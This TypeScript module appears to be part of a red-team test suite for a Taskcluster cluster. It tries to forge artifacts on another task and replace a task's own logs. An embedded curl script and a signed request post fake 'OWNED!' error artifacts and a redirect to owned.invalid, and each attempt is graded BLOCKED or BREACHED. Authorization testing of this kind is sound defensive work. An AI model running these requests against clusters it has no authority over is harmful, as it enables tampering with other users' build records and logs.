import { apiPath, rawRequest } from '../raw-request.js';
import { markedLines, runRedTeamTask } from '../red-team-tasks.js';
import { inconclusive, refusalVerdict, result, type AttackInfo } from '../verdicts.js';
import type { AttackResult, Goal } from '../types.js';
import { payloadLogAttack } from './goal-3-payload-log.js';

const attack = (id: string, title: string, invariants: string[]): AttackInfo => ({
  goal: 3,
  id: `3.${id}`,
  title,
  invariants,
});

const MARK = 'EXERCISE-3';

/** Each attempt prints `EXERCISE-3 <method> <status> <answer...>` for the exercise to read. */
const FROM_THE_TASK = String.raw`
P="$TASKCLUSTER_PROXY_URL"
exp=$(date -u -d '+1 hour' +%Y-%m-%dT%H:%M:%S.000Z)
try() {
  out=$(curl -s -m 10 -o /tmp/answer -w '%{http_code}' -X POST -H 'content-type: application/json' -d "$3" "$P$2")
  echo "EXERCISE-3 $1 $out $(head -c 200 /tmp/answer | tr '\n' ' ')"
}
error="{\"storageType\":\"error\",\"expires\":\"$exp\",\"reason\":\"file-missing-on-worker\",\"message\":\"OWNED!\"}"
link="{\"storageType\":\"reference\",\"expires\":\"$exp\",\"contentType\":\"text/plain\",\"url\":\"https://owned.invalid/log\"}"
[ -n "$VICTIM_TASK_ID" ] && try other-task "/api/queue/v1/task/$VICTIM_TASK_ID/runs/0/artifacts/public/owned.txt" "$error"
try own-live-log "/api/queue/v1/task/$TASK_ID/runs/$RUN_ID/artifacts/public/logs/live.log" "$link"
try own-backing-log "/api/queue/v1/task/$TASK_ID/runs/$RUN_ID/artifacts/public/logs/live_backing.log" "$error"
echo "EXERCISE-3 done"
`;

/**
 * Goal 3: from a task, add an artifact to a different task; also replace the task's own
 * log, which is the worker's word (S18). Through the task's proxy, and directly with the
 * red team's credentials.
 */
export const goal3: Goal = {
  number: 3,
  title: 'From a task, add an artifact to a different task',
  implemented: true,
  async run(context) {
    const target = context.victims?.runningTaskId;
    const results: AttackResult[] = [];
    const direct = attack(
      'direct',
      'createArtifact on the victim’s running task with the red team’s credentials',
      ['S5'],
    );
    if (target) {
      const path = apiPath(
        context.rootUrl,
        'queue',
        `/task/${target}/runs/0/artifacts/public/owned.txt`,
      );
      const answer = await rawRequest(context.rootUrl, {
        method: 'POST',
        path,
        body: {
          storageType: 'error',
          expires: new Date(Date.now() + 3600_000).toJSON(),
          reason: 'file-missing-on-worker',
          message: 'OWNED!',
        },
        signWith: context.redTeam,
      });
      results.push(
        refusalVerdict(direct, `POST ${path} as the red team`, answer, 'creating the artifact'),
      );
    } else {
      results.push(
        inconclusive(direct, 'no running victim task (with --as, or no worker started it)'),
      );
    }
    const proxyOther = attack(
      'proxy-other-task',
      'through the proxy: createArtifact on the victim’s task',
      ['S2', 'S5'],
    );
    const liveLog = attack(
      'proxy-own-live-log',
      'through the proxy: replace its own public/logs/live.log',
      ['S18'],
    );
    const backing = attack(
      'proxy-own-backing-log',
      'through the proxy: create its own public/logs/live_backing.log',
      ['S18'],
    );
    let task;
    try {
      task = await runRedTeamTask(context, {
        name: 'write artifacts that are not its own',
        script: FROM_THE_TASK,
        proxy: true,
        env: target ? { VICTIM_TASK_ID: target } : {},
      });
    } catch (err) {
      const why = `the task could not be created: ${(err as Error).message.split('\n')[0] ?? ''}`;
      return [
        ...results,
        inconclusive(proxyOther, why),
        inconclusive(liveLog, why),
        inconclusive(backing, why),
      ];
    }
    const lines = markedLines(task.log ?? '', MARK);
    const verdictOf = (info: AttackInfo, method: string): AttackResult => {
      const line = lines.get(method);
      if (line === undefined) {
        return inconclusive(info, `the task did not report this attempt (${task.state})`, {
          taskId: task.taskId,
          logExcerpt: (task.log ?? '').slice(-600),
        });
      }
      const status = Number(line.split(' ')[0]);
      const evidence = { taskId: task.taskId, status, logExcerpt: `${MARK} ${method} ${line}` };
      if (status === 401 || status === 403) {
        return result(info, 'BLOCKED', `the proxy or the queue refused it (${status})`, evidence);
      }
      if (status >= 200 && status < 300)
        return result(info, 'BREACHED', `it was accepted (${status})`, evidence);
      return inconclusive(info, `answered ${status}: neither accepted nor refused`, evidence);
    };
    results.push(
      target
        ? verdictOf(proxyOther, 'other-task')
        : inconclusive(proxyOther, 'no running victim task to aim at'),
      verdictOf(liveLog, 'own-live-log'),
      verdictOf(backing, 'own-backing-log'),
    );
    results.push(await payloadLogAttack(context));
    return results;
  },
};
